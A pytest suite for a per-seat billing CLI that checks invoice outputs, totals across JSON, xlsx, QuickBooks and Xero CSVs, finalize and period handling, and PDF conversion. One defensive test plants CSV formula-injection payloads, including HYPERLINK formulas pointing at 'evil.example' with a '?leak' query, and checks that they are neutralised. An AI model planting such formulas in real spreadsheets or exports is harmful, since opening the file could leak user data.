"""The ``perseat`` command line end to end on the template (SPEC §7): outputs, totals, CSV safety,
--finalize, periods, exit codes and (when LibreOffice is installed) PDFs.

Everything runs the real CLI (``python -m perseat_addin.cli``) on real files; no mocks.
"""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
import sys
import tempfile
import zipfile
from collections import defaultdict
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from perseat_addin.excel.template import SheetSpec, template_sheets, write_workbook

MACRO_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
CENT = Decimal("0.01")
TABLES = ("Settings", "Plans", "Tiers", "UserTypes", "Clients", "Roster", "Devices", "AddOns", "Usage",
          "Invoices", "InvoiceLines", "ChangeLog")
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
needs_soffice = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not on PATH: PDF output "
                                                           "cannot be produced or checked here")


# --------------------------------------------------------------------------
# helpers


def perseat(*args: str | Path, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    """Run the real CLI out of process."""
    return subprocess.run([sys.executable, "-m", "perseat_addin.cli", *map(str, args)],
                          capture_output=True, text=True, timeout=timeout)


def ok(proc: subprocess.CompletedProcess[str], code: int = 0) -> subprocess.CompletedProcess[str]:
    assert "Traceback" not in proc.stdout + proc.stderr, proc.stderr
    assert proc.returncode == code, (proc.returncode, proc.stdout, proc.stderr)
    return proc


def money(v: Any) -> Decimal:
    """A money value from JSON text, a CSV cell or an xlsx float, exact to the cent."""
    return Decimal(str(v)).quantize(CENT, ROUND_HALF_UP)


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def table_rows(path: Path, name: str) -> list[dict[str, Any]]:
    """Rows of Excel table ``name`` as dicts (blank rows and a total row skipped)."""
    wb = load_workbook(path, keep_vba=True)
    try:
        for ws in wb.worksheets:
            if name in ws.tables:
                cells = ws[ws.tables[name].ref]
                heads = [c.value for c in cells[0]]
                rows = [dict(zip(heads, (c.value for c in r), strict=True)) for r in cells[1:]]
                return [r for r in rows if any(v not in (None, "") for v in r.values())
                        and r.get(heads[0]) != "Total"]
    finally:
        wb.close()
    raise KeyError(name)


def settings(path: Path) -> dict[str, Any]:
    return {r["Setting"]: r["Value"] for r in table_rows(path, "Settings")}


def by_invoice(rows: list[dict[str, str]], key: str) -> dict[str, list[dict[str, str]]]:
    out: dict[str, list[dict[str, str]]] = defaultdict(list)
    for r in rows:
        out[r[key]].append(r)
    return out


def spec(sheets: list[SheetSpec], name: str) -> SheetSpec:
    return next(s for s in sheets if s.name == name)


def rename_client(sheets: list[SheetSpec], old: str, new: str) -> None:
    """Rename a client everywhere it is referenced (every table's Client column)."""
    for s in sheets:
        if "Client" in s.headers:
            j = list(s.headers).index("Client")
            s.rows = [tuple(new if k == j and v == old else v for k, v in enumerate(r)) for r in s.rows]


def set_field(sheets: list[SheetSpec], sheet: str, key: tuple[str, Any], header: str, value: Any) -> None:
    s = spec(sheets, sheet)
    kj, j = list(s.headers).index(key[0]), list(s.headers).index(header)
    s.rows = [tuple(value if (k == j and r[kj] == key[1]) else v for k, v in enumerate(r)) for r in s.rows]


# --------------------------------------------------------------------------
# fixtures: the template, invoiced once; the template, finalized once


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("tpl") / "wb.xlsm"
    ok(perseat("template", "--out", path))
    return path


def fresh(template: Path, folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    return Path(shutil.copyfile(template, folder / "wb.xlsm"))


@pytest.fixture(scope="module")
def invoiced(template: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """``perseat invoice wb.xlsm --out DIR --json`` on a copy of the template."""
    tmp = tmp_path_factory.mktemp("inv")
    wb = fresh(template, tmp)
    before = wb.read_bytes()
    out = tmp / "out"
    proc = ok(perseat("invoice", wb, "--out", out, "--json"))
    return {"wb": wb, "before": before, "out": out, "json": json.loads(proc.stdout)}


@pytest.fixture(scope="module")
def finalized(template: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Finalize November, read the workbook back, try to finalize November again, then invoice December."""
    tmp = tmp_path_factory.mktemp("fin")
    wb = fresh(template, tmp)
    first = ok(perseat("invoice", wb, "--finalize", "--out", tmp / "d1", "--json"))
    state1 = {"invoices": table_rows(wb, "Invoices"), "lines": table_rows(wb, "InvoiceLines"),
              "settings": settings(wb)}
    with zipfile.ZipFile(wb) as z:
        content_types = z.read("[Content_Types].xml").decode()
    tables = set()
    book = load_workbook(wb, keep_vba=True)
    for ws in book.worksheets:
        tables |= set(ws.tables)
    book.close()
    again = perseat("invoice", wb, "--period", "2026-11", "--finalize", "--out", tmp / "d2")
    state2 = {"invoices": table_rows(wb, "Invoices"), "lines": table_rows(wb, "InvoiceLines"),
              "settings": settings(wb)}
    december = ok(perseat("invoice", wb, "--out", tmp / "d3", "--json"))
    return {"wb": wb, "tmp": tmp, "first": json.loads(first.stdout), "state1": state1,
            "content_types": content_types, "tables": tables, "again": again, "state2": state2,
            "december": json.loads(december.stdout)}


# --------------------------------------------------------------------------
# invoice on the template


def test_invoice_writes_the_outputs(invoiced: dict[str, Any]) -> None:
    out: Path = invoiced["out"]
    for name in ("invoices.xlsx", "quickbooks.csv", "xero.csv"):
        assert (out / name).is_file() and (out / name).stat().st_size > 0, name
        assert name in invoiced["json"]["outputs"]
    assert not [p for p in out.iterdir() if p.name.startswith(".")], "staging files left behind"
    doc = invoiced["json"]
    assert doc["period"] == "2026-11"
    assert len(doc["invoices"]) == 7  # 8 clients, Harbor Yacht Club is Inactive
    assert {s["client"] for s in doc["skipped"]} == {"Harbor Yacht Club"}
    assert [i["number"] for i in doc["invoices"]] == [f"HV-{n}" for n in range(1001, 1008)]
    assert {i["status"] for i in doc["invoices"]} == {"Draft"}


def test_invoice_does_not_modify_the_workbook(invoiced: dict[str, Any]) -> None:
    assert invoiced["wb"].read_bytes() == invoiced["before"]


def test_json_totals_are_sums_of_lines(invoiced: dict[str, Any]) -> None:
    doc = invoiced["json"]
    for inv in doc["invoices"]:
        assert sum(money(ln["amount"]) for ln in inv["lines"]) == money(inv["total"]), inv["number"]
        assert money(inv["subtotal"]) + money(inv["discount"]) + money(inv["tax"]) == money(inv["total"])
    for key in ("subtotal", "discount", "tax", "total"):
        assert sum(money(i[key]) for i in doc["invoices"]) == money(doc["totals"][key]), key
    assert doc["totals"]["invoices"] == len(doc["invoices"])


def test_register_matches_json(invoiced: dict[str, Any]) -> None:
    doc = invoiced["json"]
    register = {r["InvoiceNo"]: r for r in table_rows(invoiced["out"] / "invoices.xlsx", "Register")}
    assert set(register) == {i["number"] for i in doc["invoices"]}
    for inv in doc["invoices"]:
        row = register[inv["number"]]
        assert row["Client"] == inv["client"]
        for key in ("Subtotal", "Discount", "Tax", "Total"):
            assert money(row[key]) == money(inv[key.lower()]), (inv["number"], key)
    assert sum(money(r["Total"]) for r in register.values()) == money(doc["totals"]["total"])


def test_quickbooks_csv_matches_json(invoiced: dict[str, Any]) -> None:
    doc = invoiced["json"]
    rows = by_invoice(read_csv(invoiced["out"] / "quickbooks.csv"), "InvoiceNo")
    assert set(rows) == {i["number"] for i in doc["invoices"]}
    for inv in doc["invoices"]:
        assert sum(money(r["ItemAmount"]) for r in rows[inv["number"]]) == money(inv["total"]), inv["number"]
        assert {r["Customer"] for r in rows[inv["number"]]} == {inv["client"]}
    everything = [r for rs in rows.values() for r in rs]
    assert sum(money(r["ItemAmount"]) for r in everything) == money(doc["totals"]["total"])


def test_quickbooks_tax_codes_follow_the_clients_tax(invoiced: dict[str, Any]) -> None:
    """A client taxed at 0 gets no TAX line (QuickBooks would charge its own sales tax on it)."""
    rows = by_invoice(read_csv(invoiced["out"] / "quickbooks.csv"), "InvoiceNo")
    codes = {inv["number"]: {r["ItemTaxCode"] for r in rows[inv["number"]]} for inv in invoiced["json"]["invoices"]}
    untaxed = [inv["number"] for inv in invoiced["json"]["invoices"] if money(inv["tax"]) == 0]
    taxed = [inv["number"] for inv in invoiced["json"]["invoices"] if money(inv["tax"]) != 0]
    assert untaxed and taxed  # the template has both
    assert all(codes[n] == {"NON"} for n in untaxed), {n: codes[n] for n in untaxed}
    assert all("TAX" in codes[n] for n in taxed)


def test_xero_csv_matches_json(invoiced: dict[str, Any]) -> None:
    doc = invoiced["json"]
    rows = by_invoice(read_csv(invoiced["out"] / "xero.csv"), "*InvoiceNumber")
    assert set(rows) == {i["number"] for i in doc["invoices"]}
    grand = Decimal(0)
    for inv in doc["invoices"]:
        lines = rows[inv["number"]]
        # Xero computes each line as UnitAmount × Quantity rounded to cents, then adds the line's tax
        total = sum(money(Decimal(r["*UnitAmount"]) * Decimal(r["*Quantity"])) + money(r["TaxAmount"])
                    for r in lines)
        assert total == money(inv["total"]), inv["number"]
        assert {money(r["Total"]) for r in lines} == {money(inv["total"])}
        assert sum(money(r["TaxAmount"]) for r in lines) == money(inv["tax"])
        grand += total
    assert grand == money(doc["totals"]["total"])


def test_check_template_is_clean(template: Path) -> None:
    ok(perseat("check", template))
    doc = json.loads(ok(perseat("check", template, "--json")).stdout)
    assert doc["ok"] is True
    assert doc["period"] == "2026-11"
    assert doc["clients"] == 8 and doc["active_clients"] == 7


@pytest.mark.parametrize("period", ["2026-13", "Nov 2026", "2026-00"])
def test_bad_period_argument_is_a_usage_error(template: Path, tmp_path: Path, period: str) -> None:
    before = template.read_bytes()
    proc = ok(perseat("invoice", template, "--period", period, "--out", tmp_path / "out"), code=2)
    assert period in proc.stderr
    assert not (tmp_path / "out").exists()
    assert template.read_bytes() == before


def test_unknown_option_is_a_usage_error(template: Path) -> None:
    ok(perseat("invoice", template, "--frobnicate"), code=2)


# --------------------------------------------------------------------------
# CSV formula injection (SPEC §10)

EVIL_CLIENT = '+HYPERLINK("http://evil.example/?leak","Birch")'
EVIL_ADDON = '=HYPERLINK("http://evil.example/","Firewall management")'
EVIL_PO = "-1+1"
AT_CLIENT = "@Delta Pediatrics"


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def test_csv_neutralises_formula_injection(tmp_path: Path) -> None:
    sheets = template_sheets()
    rename_client(sheets, "Birch & Lowe LLP", EVIL_CLIENT)
    rename_client(sheets, "Delta Pediatrics", AT_CLIENT)
    set_field(sheets, "Clients", ("Client", "Cobalt Logistics"), "PONumber", EVIL_PO)
    wb = tmp_path / "evil.xlsm"
    write_workbook(wb, sheets)
    # a description starting with "=" is stored as text (write_workbook would make it a formula)
    book = load_workbook(wb, keep_vba=True)
    ws = book["AddOns"]
    cell = next(c for c in ws["B"] if c.value == "Firewall management")
    cell.value = EVIL_ADDON
    cell.data_type = "s"
    book.save(wb)
    out = tmp_path / "out"
    doc = json.loads(ok(perseat("invoice", wb, "--out", out, "--json")).stdout)
    assert EVIL_CLIENT in {i["client"] for i in doc["invoices"]}  # the JSON keeps the real name

    qb = read_csv(out / "quickbooks.csv")
    xero = read_csv(out / "xero.csv")
    assert "'" + EVIL_CLIENT in {r["Customer"] for r in qb}
    assert "'" + AT_CLIENT in {r["Customer"] for r in qb}
    assert "'" + EVIL_CLIENT in {r["*ContactName"] for r in xero}
    assert any(r["ItemDescription"].startswith("'" + EVIL_ADDON) for r in qb)  # "..., Nov 1–30"
    assert any(r["*Description"].startswith("'" + EVIL_ADDON) for r in xero)
    assert "'" + EVIL_PO in {r["Reference"] for r in xero}
    book = load_workbook(out / "invoices.xlsx")  # and the xlsx keeps them as neutralised text, not formulas
    cells = [c for row in book["Lines"].iter_rows() for c in row if str(c.value or "").startswith("'" + EVIL_ADDON)]
    assert cells and {c.data_type for c in cells} == {"s"}
    for ws in book.worksheets:  # the Register, the Lines and every printable invoice sheet
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "s" and str(c.value)[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    raise AssertionError(f"{ws.title}!{c.coordinate}: formula-like text {c.value!r}")
    book.close()
    for path in sorted(out.glob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for value in row:
                    if value[:1] in ("=", "+", "-", "@"):
                        assert _is_number(value), f"{path.name}: formula-like cell {value!r}"


# --------------------------------------------------------------------------
# --finalize


def test_finalize_marks_invoices_final(finalized: dict[str, Any]) -> None:
    first = finalized["first"]
    invoices = [r for r in finalized["state1"]["invoices"] if r["Period"] == "2026-11"]  # not the sample ledger
    assert [r["InvoiceNo"] for r in invoices] == [i["number"] for i in first["invoices"]]
    assert [r["InvoiceNo"] for r in invoices] == [f"HV-{n}" for n in range(1001, 1008)]
    assert {r["Status"] for r in invoices} == {"Final"}
    assert {r["Period"] for r in invoices} == {"2026-11"}
    totals = {i["number"]: money(i["total"]) for i in first["invoices"]}
    assert {r["InvoiceNo"]: money(r["Total"]) for r in invoices} == totals
    lines = [r for r in finalized["state1"]["lines"] if r["InvoiceNo"] in totals]
    assert len(lines) == sum(len(i["lines"]) for i in first["invoices"])
    for number, total in totals.items():
        assert sum(money(r["Amount"]) for r in lines if r["InvoiceNo"] == number) == total


def test_finalize_advances_settings(finalized: dict[str, Any]) -> None:
    st = finalized["state1"]["settings"]
    assert int(st["NextInvoiceNumber"]) == 1008
    assert str(st["BillingPeriod"]) == "2026-12"


def test_finalize_keeps_the_workbook_macro_enabled(finalized: dict[str, Any]) -> None:
    assert MACRO_MAIN in finalized["content_types"]
    assert set(TABLES) <= finalized["tables"]


def test_second_finalize_changes_no_final_row(finalized: dict[str, Any]) -> None:
    again = finalized["again"]
    assert "Traceback" not in again.stdout + again.stderr, again.stderr
    assert again.returncode in (0, 1), again
    assert finalized["state2"] == finalized["state1"]
    d2 = finalized["tmp"] / "d2"
    # no second set of November invoices (new numbers for already-final clients) is produced
    assert not (d2 / "quickbooks.csv").exists() and not (d2 / "xero.csv").exists()


def test_next_period_numbers_from_next_invoice_number(finalized: dict[str, Any]) -> None:
    doc = finalized["december"]
    assert doc["period"] == "2026-12"
    numbers = [i["number"] for i in doc["invoices"]]
    assert numbers == [f"HV-{1008 + k}" for k in range(len(numbers))]
    assert numbers
    assert {i["status"] for i in doc["invoices"]} == {"Draft"}


def test_finalized_dates_are_dates(finalized: dict[str, Any]) -> None:
    book = load_workbook(finalized["wb"], keep_vba=True)
    ws = book["Invoices"]
    heads = [c.value for c in ws[1]]
    for header in ("IssueDate", "DueDate"):
        cell = ws.cell(2, heads.index(header) + 1)
        assert cell.is_date, (header, cell.value, cell.number_format)
    book.close()


NO_INVOICE_CRASH = (
    "outputs.users_csv: when a run has no invoices (every client Inactive, or every client already Final "
    "for the period) Run.user_reasons() returns an empty Series while the Roster has 75 rows, and "
    "`perseat invoice` dies with 'ValueError: array length 0 does not match index length 75' (traceback)"
)


def test_invoice_with_no_active_client(tmp_path: Path) -> None:
    sheets = template_sheets()
    clients = spec(sheets, "Clients")
    j = list(clients.headers).index("Status")
    clients.rows = [tuple("Inactive" if k == j else v for k, v in enumerate(r)) for r in clients.rows]
    wb = tmp_path / "idle.xlsm"
    write_workbook(wb, sheets)
    proc = perseat("invoice", wb, "--out", tmp_path / "out")
    assert "Traceback" not in proc.stdout + proc.stderr, proc.stderr
    assert proc.returncode in (0, 1)


def test_reinvoice_a_final_period(finalized: dict[str, Any], tmp_path: Path) -> None:
    wb = Path(shutil.copyfile(finalized["wb"], tmp_path / "wb.xlsm"))
    proc = perseat("invoice", wb, "--period", "2026-11", "--out", tmp_path / "out")
    assert "Traceback" not in proc.stdout + proc.stderr, proc.stderr
    assert proc.returncode in (0, 1)


def test_failed_finalize_writes_nothing(tmp_path: Path) -> None:
    sheets = [s for s in template_sheets() if s.name not in ("Invoices", "InvoiceLines")]
    wb = tmp_path / "no-invoices-table.xlsm"
    write_workbook(wb, sheets)
    before = wb.read_bytes()
    out = tmp_path / "out"
    proc = ok(perseat("invoice", wb, "--finalize", "--out", out), code=1)
    assert "Invoices" in proc.stderr
    assert wb.read_bytes() == before
    assert not out.exists() or not any(out.iterdir()), sorted(p.name for p in out.iterdir())


def test_one_row_tables(tmp_path: Path) -> None:
    """Regression: a table with exactly one data row was read as empty."""
    sheets = template_sheets()
    spec(sheets, "Clients").rows = [r for r in spec(sheets, "Clients").rows if r[0] == "Elm Street Bakery"]
    for name in ("Roster", "AddOns", "Usage", "Devices"):
        rows = [r for r in spec(sheets, name).rows if r[0] == "Elm Street Bakery"]
        spec(sheets, name).rows = rows[:1]
    spec(sheets, "Plans").rows = [r for r in spec(sheets, "Plans").rows if r[0] == "Essentials"]
    spec(sheets, "Tiers").rows = []
    wb = tmp_path / "one.xlsm"
    write_workbook(wb, sheets)
    doc = json.loads(ok(perseat("invoice", wb, "--out", tmp_path / "out", "--json")).stdout)
    assert [i["client"] for i in doc["invoices"]] == ["Elm Street Bakery"]
    assert doc["invoices"][0]["seats"] == 1
    assert money(doc["invoices"][0]["total"]) == money(250)  # MinFee of Essentials


# --------------------------------------------------------------------------
# PDFs through LibreOffice


def soffice_pdf(src: Path, out_dir: Path) -> subprocess.CompletedProcess[str]:
    assert SOFFICE is not None
    with tempfile.TemporaryDirectory(prefix="lo-profile-") as profile:  # private profile: parallel-safe
        return subprocess.run([SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
                               "--convert-to", "pdf", "--outdir", str(out_dir), str(src)],
                              capture_output=True, text=True, timeout=180)


@needs_soffice
def test_invoice_pdfs(template: Path, tmp_path: Path) -> None:
    wb = fresh(template, tmp_path)
    out = tmp_path / "out"
    doc = json.loads(ok(perseat("invoice", wb, "--pdf", "--out", out, "--json")).stdout)
    pdfs = sorted(out.glob("*.pdf"))
    assert len(pdfs) == len(doc["invoices"]) == 7
    for inv in doc["invoices"]:
        assert any(p.name.startswith(inv["number"]) for p in pdfs), inv["number"]
    for p in pdfs:
        assert p.read_bytes()[:5] == b"%PDF-", p
        assert p.name in doc["outputs"]
    pdftoppm = shutil.which("pdftoppm")
    if pdftoppm is None:
        pytest.skip("pdftoppm (poppler-utils) is not on PATH: cannot render the PDF")
    subprocess.run([pdftoppm, "-png", "-r", "50", "-f", "1", "-l", "1", "-singlefile", str(pdfs[0]),
                    str(tmp_path / "page1")], check=True, capture_output=True, timeout=60)
    png = tmp_path / "page1.png"
    assert png.is_file() and png.stat().st_size > 1000
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


@needs_soffice
def test_libreoffice_opens_invoices_xlsx(invoiced: dict[str, Any], tmp_path: Path) -> None:
    proc = soffice_pdf(invoiced["out"] / "invoices.xlsx", tmp_path)
    assert proc.returncode == 0, proc.stderr
    pdf = tmp_path / "invoices.pdf"
    assert pdf.is_file() and pdf.read_bytes()[:5] == b"%PDF-"
